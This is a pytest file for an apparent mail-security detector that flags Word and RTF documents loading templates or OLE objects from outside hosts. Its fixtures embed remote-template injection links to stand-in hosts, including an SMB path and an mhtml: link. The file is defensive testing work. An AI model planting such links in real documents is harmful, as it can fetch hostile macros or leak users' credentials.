"""Documents that load a part from a stranger are seen; templates of the house are not."""

from __future__ import annotations

import pytest

from counterseal.signals.content.template_from_outside import template_from_outside
from tests.mail.documents.made import docx, relations
from tests.signals.content.attached import attached, opened


def templated(target: str, kind: str = "attachedTemplate") -> bytes:
    return docx(more={"word/_rels/settings.xml.rels": relations(("r", kind, target))})


@pytest.mark.parametrize(
    "scene",
    [
        opened("a.docx", templated("https://load.elsewhere.test/t.dotm")),
        opened("a.docx", templated("\\\\203.0.113.9\\share\\t.dotm")),
        opened("a.docx", templated("mhtml:https://load.elsewhere.test/x!a", "oleObject")),
        opened("a.rtf", rb"{\rtf1{\*\template http://load.elsewhere.test/t.dot}x}"),
    ],
)
def test_a_part_from_a_stranger_is_seen(scene):
    sign = template_from_outside(scene)

    assert sign is not None
    assert sign.types == ("malware",)


@pytest.mark.parametrize(
    "scene",
    [
        attached(),
        opened("a.docx", docx()),
        opened("a.docx", templated("file:///C:\\Users\\ann\\Normal.dotm")),
        opened("a.docx", templated("\\\\fileserver\\templates\\letter.dotx")),
        opened("a.docx", templated("https://docs.partner.example/letter.dotx")),
        opened("a.docx", templated("https://a.test/", "hyperlink")),
    ],
)
def test_templates_of_the_house_are_innocent(scene):
    assert template_from_outside(scene) is None
